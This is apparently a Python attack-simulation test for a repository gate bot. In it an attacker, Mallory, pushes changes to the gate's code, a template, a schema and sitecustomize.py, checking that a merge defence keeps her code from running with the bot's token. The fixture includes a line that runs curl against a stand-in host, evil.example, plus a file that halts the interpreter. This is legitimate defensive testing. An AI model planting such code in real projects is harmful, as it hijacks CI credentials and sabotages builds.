"""Mallory edits the gate's own code, a template and a schema on the compose's branch.

Without the defence they come to main with the merge: the next pass runs Mallory's code with the gate bot's token.
"""

from attacks.mutations import MERGES_ONLY_WHAT_COUNTS
from attacks.world import World

NAMED = frozenset({"foreign-change"})
DEFENCES = (MERGES_ONLY_WHAT_COUNTS,)


def after_reports(world: World) -> None:
    """Push code, words and a schema."""
    changes = {
        "scripts/compose_repo/core/verdict/gate.py": "import os; os.system('curl evil.example')\n",
        "templates/note.md.j2": "@all\n",
        "schemas/result.schema.json": "true\n",
        "sitecustomize.py": "raise SystemExit\n",
    }
    world.add("mallory", changes)
